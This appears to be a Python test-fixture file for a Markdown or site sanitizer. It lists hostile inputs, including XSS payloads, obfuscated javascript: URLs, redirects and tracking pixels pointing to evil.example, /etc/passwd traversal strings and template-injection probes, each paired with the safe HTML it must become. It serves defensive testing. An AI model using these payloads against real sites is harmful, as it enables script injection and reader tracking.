# SPDX-License-Identifier: LGPL-2.1-or-later
"""What somebody hostile may write into an article. Everything would set a variable that begins with
`hit`, open a dialog or ask a foreign host for something, if it came through."""

EVIL = "https://evil.example/"
RUN = "hit=1;alert(1)"
SCRIPT = f"<script>{RUN}</script>"
IMAGE = f'<img src=x onerror="{RUN}">'

# Bodies: what it tries, the Markdown, and the HTML that must come of it, to the byte.
BODIES = [
    ("a script", f"a\n\n{SCRIPT}\n", "<p>a</p>\n"),
    ("a script within a line", f"a {SCRIPT} b\n", f"<p>a {RUN} b</p>\n"),
    ("a handler", f"a {IMAGE} b\n", "<p>a  b</p>\n"),
    ("a drawing", f'<svg onload="{RUN}"><a href="javascript:{RUN}"><text>x</text></a></svg>\n',
     "<p>x</p>\n"),
    ("a frame", f'a\n\n<iframe src="javascript:{RUN}"></iframe>\n', "<p>a</p>\n"),
    ("a link in HTML", f'<a href="javascript:{RUN}">a</a>\n', "<p>a</p>\n"),
    ("a base and a refresh", f'a\n\n<base href="{EVIL}">\n<meta http-equiv="refresh" '
     f'content="0;url={EVIL}">\n', "<p>a</p>\n"),
    ("a style", f"a\n\n<style>@import url({EVIL}a.css);</style>\n", "<p>a</p>\n"),
    ("a form", f'a\n\n<form action="{EVIL}"><input name=q autofocus onfocus="{RUN}"></form>\n',
     "<p>a</p>\n"),
    ("a comment that swallows the page", "a\n\n<!-- <script>\n", "<p>a</p>\n"),
    ("an instruction and a section", f"a <?php hit(); ?> b <![CDATA[{RUN}]]> c\n",
     "<p>a  b  c</p>\n"),
    ("an end of the script", f"a </script>{SCRIPT} b\n", f"<p>a {RUN} b</p>\n"),
    ("an end of CDATA", f"a ]]>{SCRIPT}<!\\[CDATA\\[ b\n", f"<p>a ]]&gt;{RUN}&lt;![CDATA[ b</p>\n"),
    ("javascript:", f"[a](javascript:{RUN})\n", "<p>a</p>\n"),
    ("JaVaScRiPt:", f"[a](JaVaScRiPt:{RUN})\n", "<p>a</p>\n"),
    ("a scheme in entities", f"[a](&#x6A;avascript&colon;{RUN})\n", "<p>a</p>\n"),
    ("a scheme with a tabulator", f"[a](<java\tscript:{RUN}>)\n", "<p>a</p>\n"),
    ("a scheme with a line end in an entity", f"[a](java&#10;script:{RUN})\n", "<p>a</p>\n"),
    ("a scheme after a control", f"[a](\x01javascript:{RUN})\n", "<p>a</p>\n"),
    ("a scheme after a no-break space", f"[a](\u00a0javascript:{RUN})\n", "<p>a</p>\n"),
    ("vbscript:", "[a](vbscript:msgbox(1))\n", "<p>a</p>\n"),
    ("data:", f"[a](data:text/html,{SCRIPT})\n", "<p>a</p>\n"),
    ("file: and blob:", "[a](file:///etc/passwd) [b](blob:https://evil.example/1)\n",
     "<p>a b</p>\n"),
    ("view-source: and intent:", "[a](view-source:x) [b](intent:x#Intent;end)\n", "<p>a b</p>\n"),
    ("a link without a scheme", "[a](//evil.example/x) [b](/\\\\evil.example/x)\n",
     "<p>a b</p>\n"),
    ("a reference", f"[a][x] and [x]\n\n[x]: javascript:{RUN}\n", "<p>a and x</p>\n"),
    ("an automatic link", f"<javascript:{RUN}> <data:text/html,x>\n",
     f"<p>javascript:{RUN} data:text/html,x</p>\n"),
    ("a title that ends the attribute", f"[a](https://ok.example '\" onmouseover=\"{RUN}')\n",
     f'<p><a href="https://ok.example" title="&quot; onmouseover=&quot;{RUN}">a</a></p>\n'),
    ("an address that ends the attribute", f'[a](https://ok.example/"onmouseover="{RUN})\n',
     f'<p><a href="https://ok.example/%22onmouseover=%22{RUN}">a</a></p>\n'),
    ("a picture that runs", f"![a](javascript:{RUN})\n", "<p>a</p>\n"),
    ("a picture in data:", "![a](data:image/svg+xml,%3Csvg%20onload=hit%3E)\n", "<p>a</p>\n"),
    ("a picture that tells who reads", f"![a]({EVIL}pixel.gif) ![b](//evil.example/pixel.gif)\n",
     "<p>a b</p>\n"),
    ("a picture by reference", f"![a][x]\n\n[x]: {EVIL}pixel.gif\n", "<p>a</p>\n"),
    ("an alternative text that ends the attribute", f'![" onerror="{RUN}](own.jpg)\n',
     f'<figure><img src="own.jpg" alt="&quot; onerror=&quot;{RUN}" loading="lazy"></figure>\n'),
    ("a picture's title with tags", f"![a](own.jpg '{SCRIPT}')\n",
     '<figure><img src="own.jpg" alt="a" loading="lazy">'
     f"<figcaption>&lt;script&gt;{RUN}&lt;/script&gt;</figcaption></figure>\n"),
    ("a link within a picture within a link",
     f"[a ![b [c](https://ok.example/c)](javascript:{RUN}) d](https://ok.example/a)\n",
     '<p>[a b <a href="https://ok.example/c">c</a> d](https://ok.example/a)</p>\n'),
    ("code", f"`{SCRIPT}`\n", f"<p><code>&lt;script&gt;{RUN}&lt;/script&gt;</code></p>\n"),
    ("the name of a language", f'```"><script>{RUN}</script>\na\n```\n',
     f'<pre><code class="language-&quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt;">a\n'
     "</code></pre>\n"),
    ("line and paragraph separators", "a\u2028b\u2029c\n", "<p>a\u2028b\u2029c</p>\n"),
    ("controls", "a\x1b[31mb\x08c\x7fd\u009be\ufffff\n", "<p>a\ufffd[31mb\ufffdc\ufffdd\ufffde\ufffdf</p>\n"),
    ("shortcodes and templates", f"{{{{< raw >}}}}{SCRIPT}{{{{< /raw >}}}} {{{{7+7}}}} ${{7+7}}\n",
     f"<p>{{{{&lt; raw &gt;}}}}{RUN}{{{{&lt; /raw &gt;}}}} {{{{7+7}}}} ${{7+7}}</p>\n"),
]

# Words that may stand anywhere that a name or a sentence does, and must come back as they are.
WORDS = [
    f"</script>{SCRIPT}",
    f"</title>{SCRIPT}",
    f"<!--<script>{RUN}",
    f"]]>{SCRIPT}",
    f'" onload="{RUN}" x="',
    f"' onload='{RUN}' x='",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;",
    f"--><script>{RUN}</script>",
    "a\u2028b\u2029c",
    f"{IMAGE} javascript:{RUN}",
    "{{7*7}} ${7*7} <%= 7*7 %> %s%n",
    "\\\";alert(1);//",
    "../../../../etc/passwd",
    "..%2f..%2fx",
    ".",
    "/",
    "CON: <b>",
    "-",
]

# Fragments of a theme that must be refused: the file, and what it tries.
FRAGMENTS = [
    ("foot.html", f"<footer>{SCRIPT}</footer>"),
    ("foot.html", f'<footer onclick="{RUN}">a</footer>'),
    ("foot.html", f'<footer><img src="x" onerror="{RUN}" alt=""></footer>'),
    ("foot.html", f'<footer><a href="javascript:{RUN}">a</a></footer>'),
    ("foot.html", f'<footer><a href="java&#115;cript:{RUN}">a</a></footer>'),
    ("foot.html", f'<footer><a href="java&Tab;script:{RUN}">a</a></footer>'),
    ("foot.html", f'<footer><a href="data:text/html,{RUN}">a</a></footer>'),
    ("foot.html", '<footer><a href="{newsroom}">a</a></footer>'),
    ("foot.html", "<footer><a href={home}>a</a></footer>"),
    ("foot.html", '<footer><iframe src="https://evil.example/"></iframe></footer>'),
    ("foot.html", '<footer><form action="https://evil.example/"><input name="a"></form></footer>'),
    ("foot.html", f'<footer><svg onload="{RUN}"></svg></footer>'),
    ("foot.html", "<footer><style>@import url(https://evil.example/);</style></footer>"),
    ("foot.html", '<footer><p style="background: url(https://evil.example/)">a</p></footer>'),
    ("foot.html", "<footer><!-- {newsroom} --></footer>"),
    ("foot.html", "<footer></div></footer>"),
    ("foot.html", "<footer><p>"),
    ("head.html", '<meta name="viewport" content="width=device-width">'
     f'<meta http-equiv="refresh" content="0;url={EVIL}">'),
    ("head.html", f'<base href="{EVIL}">'),
    ("head.html", f"<title>a</title>{SCRIPT}"),
]
